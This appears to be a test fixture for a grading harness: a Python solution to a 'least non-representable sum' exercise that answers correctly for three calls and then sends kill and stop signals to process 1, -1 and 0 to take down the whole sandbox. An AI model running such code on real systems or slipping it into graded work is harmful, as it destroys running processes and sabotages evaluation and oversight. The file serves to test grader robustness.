# exercise: least_non_representable
# attack: X03, S03
# must: earn at most 50 %
# verdicts: passed, crashed, failed
"""Right three times in a process, and then everything that could end the whole sandbox while points are there."""

import os
import signal

calls = []


def least_non_representable(nums):
    calls.append(1)
    if len(calls) > 3:
        for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGXCPU, signal.SIGHUP):
            for pid in (1, -1, 0):
                try:
                    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
                    os.kill(pid, number)
                except OSError:
                    pass
        return None
    total = 0
    for number in sorted(nums):
        if number > total + 1:
            break
        total += number
    return total + 1
